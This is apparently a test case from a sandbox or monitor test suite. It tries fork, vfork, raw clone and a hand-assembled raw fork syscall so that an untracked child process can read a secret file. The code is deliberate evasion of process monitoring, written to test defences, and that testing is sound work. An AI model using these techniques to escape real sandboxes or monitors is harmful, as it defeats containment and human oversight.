# SPDX-License-Identifier: Apache-2.0
# attack: fork, vfork and raw clone; the child tells the secret
# class: clone
# wins: procs leak
# wins where process: leak
# logged: fork vfork clone
# logged where process: clone
from kit import *

tried()
stack = page(65536) + 65000
path, buf = ctypes.create_string_buffer(os.fsencode(SECRET)), stat_buf()
thief = function(THIEF, *[ctypes.c_long] * 4)
for flags in (17, 0, 17 | 0x4000):
    thief(flags, stack, address(path), address(buf))
    time.sleep(0.05)
for call in ('fork',):
    if sc(call) == 0:
        took(openat(SECRET))
        time.sleep(0.1)
        sc('exit_group', 0)
if NATIVE is False:
    pid = function('5a' 'b83a000000' '0f05' '52' 'c3')()
    if pid == 0:
        took(openat(SECRET))
        sc('exit_group', 0)
time.sleep(0.1)
